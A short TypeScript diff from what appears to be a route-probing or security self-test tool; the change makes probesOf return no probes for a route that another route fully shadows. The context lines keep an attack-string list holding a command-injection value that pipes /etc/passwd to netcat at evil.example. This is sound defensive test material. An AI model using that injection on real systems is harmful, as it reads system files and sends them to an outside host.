@@ -21,9 +21,11 @@ const ATTACKS = [
   "; cat /etc/passwd | nc evil.example 4444",
 ];
 
-/** A probe of each kind that the route takes. @param before the routes that stand before it */
+/** A probe of each kind that the route takes; none where it takes nothing. @param before the routes that stand before it */
 export function probesOf(route: Match, before: readonly Match[]): Probe[] {
-  const { method, authority, path } = unshadowed(route, before);
+  const target = unshadowed(route, before);
+  if (target === null) return [];
+  const { method, authority, path } = target;
   const attack = ATTACKS.map((text, index) => `q${index}=${encodeURIComponent(text)}`).join("&");
   return [
     { kind: "benign", method, authority, path: `${path}?q=self-test`, headers: {} },
